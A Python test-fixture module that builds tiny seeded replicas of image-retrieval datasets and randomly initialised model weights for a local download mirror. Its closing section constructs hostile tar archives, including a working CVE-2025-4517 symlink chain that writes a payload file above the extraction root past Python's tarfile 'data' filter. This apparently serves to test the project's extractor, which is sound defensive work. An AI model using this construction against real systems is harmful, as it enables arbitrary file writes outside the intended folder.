"""Tiny replicas of the paper profile's official downloads, in their official formats and layouts.

`paper_mirror()` returns every file the paper profile fetches, keyed by its mirror path
``/<host>/<path>`` (`msvlad.data.download.url_key`), so that `httpserver.FileServer` serves it as
the mirror of `data.mirror` (or, written to a folder, a ``file://`` mirror):

- revisited Oxford/Paris: ``gnd_r*.pkl`` with easy/hard/junk/bbx per query (one query has no hard
  positive, so the Hard setup must leave it out), queries outside the database;
- classic Oxford5k/Paris6k: cirtorch's ``gnd_*.pkl`` with ok/junk/bbx, queries inside the database;
- the image archives: Oxford flat, Paris in per-landmark folders over two archives, one of the
  known-corrupt Paris names holding an HTML page, one image no gnd lists;
- INRIA Holidays: ``jpg/<6 digits>.jpg`` over two archives, some stored sideways, and the rotation
  list a researcher supplies (`Mirror.rotations`, not served: no official host publishes one);
- revisitop1m: the listing and all 100 archives (images in the first two);
- GLDv2: ``train_clean.csv``, all 500 train tars (``a/b/c/<id>.jpg``) and their md5 files;
- the ResNet-101 ImageNet weights under cirtorch's official name, randomly initialised (so their
  sha256 is not the one the name states: `Mirror.weights_sha256` is what a run must pin), and on
  request those of the other cirtorch backbones (ResNet-50, VGG16; `Mirror.trunks` pins each).

Images of one landmark are views of one seeded pattern, so rankings are not pure chance.
"""

from __future__ import annotations

import hashlib
import io
import pickle
import tarfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
from PIL import Image

from msvlad.data.catalog import (
    CIRTORCH_GND,
    GLDV2_CLEAN_CSV,
    GLDV2_MD5,
    GLDV2_NUM_TARS,
    GLDV2_TAR,
    HOLIDAYS_IMAGES,
    OXFORD_IMAGES,
    PARIS_IMAGES,
    R1M_ARCHIVE,
    R1M_LIST,
    R1M_NUM_ARCHIVES,
    REVISITOP_GND,
)
from msvlad.data.download import url_key
from msvlad.nn.backbones import BACKBONES

# ----------------------------------------------------------------------------- file builders


def random_jpeg(seed: int, size: tuple[int, int] = (16, 12)) -> bytes:
    """A small JPEG of uniform noise (width, height)."""
    rng = np.random.default_rng(seed)
    return jpeg_bytes(Image.fromarray(rng.integers(0, 255, (size[1], size[0], 3), dtype=np.uint8)))


def jpeg_bytes(img: Image.Image, quality: int = 90) -> bytes:
    """The JPEG encoding of `img`."""
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=quality)
    return buf.getvalue()


def tar_bytes(members: dict[str, bytes], gz: bool = True) -> bytes:
    """A tar (gzipped by default) holding `members` (archive name -> content)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def pkl_bytes(obj: object, protocol: int = 4) -> bytes:
    """A pickle of `obj` (plain dicts, lists and numpy arrays, as the official gnd files)."""
    return pickle.dumps(obj, protocol=protocol)


class Landmarks:
    """Seeded 'landmarks': each is a smooth colour pattern; its photos are jittered views."""

    def __init__(self, seed: int, side: int = 160) -> None:
        self.rng = np.random.default_rng(seed)
        self.side = side
        self._bases: dict[str, np.ndarray] = {}

    def base(self, name: str) -> np.ndarray:
        """The pattern of landmark `name` (side x side x 3, float)."""
        if name not in self._bases:
            coarse = self.rng.uniform(0, 255, size=(5, 5, 3)).astype(np.uint8)
            smooth = Image.fromarray(coarse).resize((self.side, self.side), Image.BICUBIC)
            stripes = 40 * np.sin(np.arange(self.side) / self.rng.uniform(2, 6))[None, :, None]
            self._bases[name] = np.asarray(smooth, dtype=np.float32) + stripes
        return self._bases[name]

    def photo(
        self, name: str, size: tuple[int, int] = (144, 108), hard: bool = False, rotate: int = 0
    ) -> bytes:
        """A JPEG view (width, height) of landmark `name`; `hard`: a stronger change of view.

        `rotate`: clockwise degrees that turn the stored photo upright (it is stored turned back).
        """
        base = self.base(name)
        w, h = size
        shift = self.rng.integers(0, self.side - max(w, h) // 2 + 1, size=2)
        crop = base[shift[0] :, shift[1] :]
        img = Image.fromarray(np.clip(crop, 0, 255).astype(np.uint8)).resize((w, h))
        arr = np.asarray(img, dtype=np.float32)
        arr = arr * self.rng.uniform(0.6, 1.0 if hard else 0.9) + self.rng.normal(
            0, 25 if hard else 8, arr.shape
        )
        out = Image.fromarray(np.clip(arr, 0, 255).astype(np.uint8))
        if rotate:
            out = out.rotate(rotate, expand=True)  # counter-clockwise: undone by `rotate` clockwise
        return jpeg_bytes(out)


def trunk_weights(backbone: str, seed: int = 0) -> bytes:
    """A randomly initialised trunk state dict of `backbone` in cirtorch's `features` key layout."""
    import torch

    torch.manual_seed(seed)
    buf = io.BytesIO()
    torch.save(BACKBONES[backbone].build().state_dict(), buf)
    return buf.getvalue()


def resnet101_weights(seed: int = 0) -> bytes:
    """A randomly initialised ResNet-101 trunk state dict in cirtorch's `features` key layout."""
    return trunk_weights("resnet101", seed)


# ----------------------------------------------------------------------------- the paper mirror

OXFORD = ("all_souls", "bodleian", "radcliffe_camera")
PARIS_1 = ("eiffel", "louvre")  # paris_1-v1.tgz holds these landmark folders, paris_2 the others
PARIS_2 = ("triomphe",)
HOLIDAYS_GROUPS = {"1000": 3, "1001": 2, "1002": 2, "1003": 2}  # group -> images (query first)
HOLIDAYS_TURNED = {"100001": 90, "100301": 270}  # clockwise degrees that turn them upright
GLDV2_CLASSES = {  # landmark id -> images (GLDv2-clean keeps landmarks with 2+ images)
    "1234": 3,
    "20466": 4,
    "37219": 3,
    "81305": 3,
    "142317": 3,
    "190011": 1,  # one image: left out by prepare.gldv2_min_images = 2
}
R1M_IMAGES = 6  # distractors, in the first two of the 100 archives


@dataclass
class Mirror:
    """Served files, plus what a researcher supplies beside them and what the replicas hold."""

    files: dict[str, bytes] = field(default_factory=dict)
    rotations: str = ""  # the Holidays rotation list (YAML: image name -> clockwise degrees)
    weights_url: str = BACKBONES["resnet101"].urls["cirtorch"]
    weights_sha256: str = ""
    trunks: dict[str, str] = field(default_factory=dict)  # backbone -> sha256 of its served replica
    sizes: dict[str, tuple[int, int]] = field(default_factory=dict)  # dataset -> (db, queries)
    train_images: int = 0
    distractors: int = 0

    def put(self, url: str, data: bytes) -> None:
        """Serve `data` where the mirror of `url` is."""
        self.files["/" + url_key(url)] = data

    def write(self, folder: Path) -> Path:
        """Write the files under `folder` in the ``<host>/<path>`` layout (a ``file://`` mirror)."""
        for path, data in self.files.items():
            dest = folder / path.lstrip("/")
            dest.parent.mkdir(parents=True, exist_ok=True)
            dest.write_bytes(data)
        return folder


def _revisited_gnd(db: list[str], queries: dict[str, str], labels: dict[str, list[str]]) -> dict:
    """Revisited gnd: per query easy/hard/junk indices into db (by view role) and a bbx."""
    gnd = []
    for landmark in queries.values():
        idx = {role: [db.index(n) for n in labels[f"{landmark}:{role}"]] for role in _ROLES}
        gnd.append(
            {
                "easy": np.array(idx["easy"], dtype=np.int64),
                "hard": np.array(idx["hard"], dtype=np.int64),
                "junk": np.array(idx["junk"], dtype=np.int64),
                "bbx": np.array([12.0, 10.0, 120.0, 96.0]),
            }
        )
    return {"imlist": db, "qimlist": list(queries), "gnd": gnd}


def _classic_gnd(db: list[str], queries: dict[str, str], labels: dict[str, list[str]]) -> dict:
    """cirtorch's classic gnd: queries are database images too; ok = good + ok, and junk."""
    imlist = db + list(queries)
    gnd = []
    for q, landmark in queries.items():
        ok = [imlist.index(n) for n in labels[f"{landmark}:easy"] + labels[f"{landmark}:hard"]]
        gnd.append(
            {
                "ok": [*ok, imlist.index(q)],
                "junk": [imlist.index(n) for n in labels[f"{landmark}:junk"]],
                "bbx": [12.0, 10.0, 120.0, 96.0],
            }
        )
    return {"imlist": imlist, "qimlist": list(queries), "gnd": gnd}


_ROLES = ("easy", "hard", "junk")


def _landmark_photos(
    lm: Landmarks, prefix: str, names: tuple[str, ...], no_hard: str
) -> tuple[dict[str, bytes], list[str], dict[str, str], dict[str, list[str]]]:
    """Photos, db names, queries and roles per landmark (views: easy, hard, junk, unlabelled)."""
    photos: dict[str, bytes] = {}
    db: list[str] = []
    queries: dict[str, str] = {}
    labels: dict[str, list[str]] = {}
    for landmark in names:
        roles = ["easy", "junk"] if landmark == no_hard else ["easy", "hard", "junk"]
        for role in _ROLES:
            labels[f"{landmark}:{role}"] = []
        for k, role in enumerate([*roles, "other"], start=1):
            name = f"{prefix}{landmark}_{k:06d}"
            portrait = k % 2 == 0
            size = (108, 144) if portrait else (144, 108)
            photos[name] = lm.photo(landmark, size, role == "hard")
            db.append(name)
            if role != "other":  # an unlabelled view: neither positive nor junk (a negative)
                labels[f"{landmark}:{role}"].append(name)
        q = f"{prefix}{landmark}_{100:06d}"
        photos[q] = lm.photo(landmark)
        queries[q] = landmark
    return photos, db, queries, labels


def paper_mirror(
    seed: int = 0, weights: bool = True, backbones: tuple[str, ...] = ("resnet101",)
) -> Mirror:
    """Every official file of the paper profile, as tiny replicas (see the module docstring).

    With `weights`, the cirtorch weights of each of `backbones` (random, under its official name).
    """
    lm = Landmarks(seed)
    m = Mirror()

    photos, db, queries, labels = _landmark_photos(lm, "", OXFORD, no_hard=OXFORD[-1])
    m.put(REVISITOP_GND.format(ds="roxford5k"), pkl_bytes(_revisited_gnd(db, queries, labels), 2))
    m.put(CIRTORCH_GND.format(ds="oxford5k"), pkl_bytes(_classic_gnd(db, queries, labels), 2))
    m.put(OXFORD_IMAGES[0], tar_bytes({f"{n}.jpg": data for n, data in photos.items()}))
    m.sizes["roxford5k"] = (len(db), len(queries))
    m.sizes["oxford5k"] = (len(db) + len(queries), len(queries))

    photos, db, queries, labels = _landmark_photos(
        lm, "paris_", PARIS_1 + PARIS_2, no_hard=PARIS_2[0]
    )
    m.put(REVISITOP_GND.format(ds="rparis6k"), pkl_bytes(_revisited_gnd(db, queries, labels)))
    m.put(CIRTORCH_GND.format(ds="paris6k"), pkl_bytes(_classic_gnd(db, queries, labels)))
    html = b"<html><head><title>302 Found</title></head></html>"
    for url, landmarks in zip(PARIS_IMAGES, (PARIS_1, PARIS_2), strict=True):
        members = {
            f"paris/{n.split('_')[1]}/{n}.jpg": data
            for n, data in photos.items()
            if n.split("_")[1] in landmarks
        }
        if landmarks is PARIS_1:  # a known-corrupt name (an HTML page) and an image no gnd lists
            members["paris/louvre/paris_louvre_000136.jpg"] = html
            members["paris/general/paris_general_000001.jpg"] = lm.photo("general")
        m.put(url, tar_bytes(members))
    m.sizes["rparis6k"] = (len(db), len(queries))
    m.sizes["paris6k"] = (len(db) + len(queries), len(queries))

    hol: dict[str, bytes] = {}
    for g, n in HOLIDAYS_GROUPS.items():
        for k in range(n):
            name = f"{g}{k:02d}"
            hol[name] = lm.photo(f"holidays{g}", rotate=HOLIDAYS_TURNED.get(name, 0))
    names = sorted(hol)
    half = len(names) // 2
    for url, part in zip(HOLIDAYS_IMAGES, (names[:half], names[half:]), strict=True):
        m.put(url, tar_bytes({f"jpg/{n}.jpg": hol[n] for n in part}))
    m.rotations = "".join(f"{n}.jpg: {d}\n" for n, d in sorted(HOLIDAYS_TURNED.items()))
    m.sizes["holidays_rotated"] = (len(hol), len(HOLIDAYS_GROUPS))

    r1m = [f"{i % 2}/{'ab'[i // 2 % 2]}/r1m{i:04d}.jpg" for i in range(R1M_IMAGES)]
    m.put(R1M_LIST, "".join(n + "\n" for n in r1m).encode())
    for a in range(1, R1M_NUM_ARCHIVES + 1):
        part = r1m[: R1M_IMAGES // 2] if a == 1 else r1m[R1M_IMAGES // 2 :] if a == 2 else []
        m.put(
            R1M_ARCHIVE.format(i=a),
            tar_bytes({n: lm.photo(f"r1m{n}", (144, 108)) for n in part}),
        )
    m.distractors = R1M_IMAGES

    ids = {
        k: [hashlib.sha1(f"{k}/{j}".encode()).hexdigest()[:16] for j in range(n)]
        for k, n in GLDV2_CLASSES.items()
    }
    m.put(
        GLDV2_CLEAN_CSV,
        ("landmark_id,images\n" + "".join(f"{k},{' '.join(v)}\n" for k, v in ids.items())).encode(),
    )
    tars: dict[int, dict[str, bytes]] = {t: {} for t in range(GLDV2_NUM_TARS)}
    for k, image_ids in ids.items():
        for j, i in enumerate(image_ids):
            tars[(int(k) + j) % 5][f"{i[0]}/{i[1]}/{i[2]}/{i}.jpg"] = lm.photo(f"gld{k}")
    for t, members in tars.items():
        tar = tar_bytes(members, gz=False)
        m.put(GLDV2_TAR.format(i=t), tar)
        md5 = f"{hashlib.md5(tar).hexdigest()}  images_{t:03d}.tar\n"
        m.put(GLDV2_MD5.format(i=t), md5.encode())
    m.train_images = sum(n for n in GLDV2_CLASSES.values() if n >= 2)

    if weights:
        for backbone in backbones:
            data = trunk_weights(backbone, seed)
            m.put(BACKBONES[backbone].urls["cirtorch"], data)
            m.trunks[backbone] = hashlib.sha256(data).hexdigest()
        m.weights_sha256 = m.trunks.get("resnet101", "")
    return m


def served(mirror: Mirror, url: str) -> Any:
    """The replica of `url` (raw bytes)."""
    return mirror.files["/" + url_key(url)]


# ----------------------------------------------------------------------------- hostile archives


def tar_of(members: list[tuple[tarfile.TarInfo, bytes | None]], gz: bool = True) -> bytes:
    """A tar (gzipped by default) of raw headers: any member type, data for regular files."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def tar_member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    """A header of type `kind` (tarfile.SYMTYPE, LNKTYPE, FIFOTYPE, CHRTYPE...), `link` target."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def symlink_chain_members(
    escape_to: int, payload_name: str, payload: bytes, depth: int = 16
) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    """The CVE-2025-4517 shape: a file written `escape_to` folders above the extraction root.

    `depth` folders of 247-character names, each reached by a one-letter symlink, so that the
    chain ``a/b/.../p`` resolves to more than PATH_MAX characters; a long-named link at its end
    points back up ``depth`` levels, i.e. at the extraction root itself, while lexically it sits
    ``depth + 1`` levels deep. ``escape`` -> ``<chain>/<long link>/..`` x `escape_to` therefore
    looks inside the root to lexical checks (and to Python 3.11.7's `data` filter, whose
    realpath gives up past PATH_MAX) but is `escape_to` levels above it on disk; the payload
    member ``escape/<payload_name>`` is written there.
    """
    comp = "d" * 247
    steps = [chr(ord("a") + i) for i in range(depth)]
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    path = ""
    for step in steps:
        members.append((tar_member(path + comp, tarfile.DIRTYPE), None))
        members.append((tar_member(path + step, tarfile.SYMTYPE, comp), None))
        path += comp + "/"
    long_link = "/".join(steps) + "/" + "l" * 254
    members.append((tar_member(long_link, tarfile.SYMTYPE, "../" * depth), None))
    members.append((tar_member("escape", tarfile.SYMTYPE, long_link + "/.." * escape_to), None))
    members.append((tar_member(f"escape/{payload_name}"), payload))
    return members
